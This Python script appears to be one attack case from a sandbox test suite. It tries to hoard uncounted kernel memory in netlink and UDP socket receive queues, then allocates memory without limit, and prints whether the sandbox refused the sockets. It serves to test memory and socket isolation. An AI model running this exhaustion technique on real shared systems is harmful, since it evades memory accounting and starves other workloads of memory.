"""Holds memory in the queues of netlink and UDP sockets, which no cgroup v1 group counts, beside as
much counted memory as its group allows (and then more).

victim: next
limit: memory
proof: ATTACK netlink-queues: no netlink, UDP or TCP socket opened
"""

import errno
import socket

import numpy as np

queues = []


def fill(family, kind, protocol, address):
    """Receivers of ``family``, each sent up to 4 MiB that waits in its queue."""
    sender = socket.socket(family, kind, protocol)
    sender.setblocking(False)
    for _ in range(200):
        receiver = socket.socket(family, kind, protocol)
        receiver.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 * 2**20)
        receiver.bind(address)
        queues.append(receiver)
        for _ in range(128):
            try:
                sender.sendto(b"x" * 32768, receiver.getsockname())
            except OSError:
                break


refused = []
for family, kind, protocol, address in ((socket.AF_NETLINK, socket.SOCK_RAW, 2, (0, 0)),
                                        (socket.AF_INET, socket.SOCK_DGRAM, 0, ("127.0.0.1", 0))):
    try:
        fill(family, kind, protocol, address)
    except OSError as error:
        refused.append(error.errno)
try:
    queues.append(socket.socket(socket.AF_INET, socket.SOCK_STREAM))
except OSError as error:
    refused.append(error.errno)
if not queues and refused == [errno.EPERM] * 3:
    print("ATTACK netlink-queues: no netlink, UDP or TCP socket opened", flush=True)
else:
    print("ATTACK netlink-queues: opened", len(queues), "sockets", flush=True)
hoard = []
while True:
    hoard.append(np.ones(2**23))  # 64 MiB at a time, until the group stops it
